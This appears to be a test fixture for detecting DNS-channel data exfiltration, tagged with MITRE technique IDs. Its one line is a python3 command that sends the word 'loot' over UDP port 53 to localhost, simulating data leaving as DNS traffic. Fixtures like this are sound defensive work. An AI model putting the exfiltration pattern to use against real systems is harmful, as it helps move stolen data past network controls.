# title: data leaves as questions for names
# attack: T1071.004 T1048.003
# workload: webapp
# through: app
# shows: connect udp/53 to 127.0.0.1 by python3
python3 -c 'import socket; socket.socket(2, 2).sendto(b"loot", ("127.0.0.1", 53))'
